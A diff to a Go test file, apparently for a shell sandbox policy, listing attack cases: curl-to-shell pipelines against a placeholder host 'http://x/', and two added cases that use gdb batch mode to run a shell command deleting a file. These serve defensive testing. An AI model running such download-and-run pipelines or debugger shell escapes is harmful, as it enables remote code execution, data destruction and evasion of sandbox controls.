@@ -129,6 +129,8 @@ var attackCases = []attackCase{
 	{class: "download and run", name: "function", policy: "workspace", shell: "sh", src: `f(){ sh; }; curl -s http://x/ | f`},
 	{class: "download and run", name: "script", policy: "workspace", shell: "sh", src: `curl -s http://x/ | script -q /dev/null`},
 	{class: "download and run", name: "su", policy: "workspace", shell: "sh", src: `curl -s http://x/ | su`},
+	{class: "download and run", name: "gdb-x", policy: "wide", shell: "sh", needs: "gdb", setup: "echo 'shell rm -f victim' > g", src: `gdb -q -batch -x g`},
+	{class: "download and run", name: "gdb-ex", policy: "wide", shell: "sh", needs: "gdb", src: `gdb -q -batch -ex 'shell rm -f victim'`},
 	{class: "download and run", name: "file", policy: "workspace", shell: "sh", src: `curl -s -o x http://x/ && sh x`},
 }
 
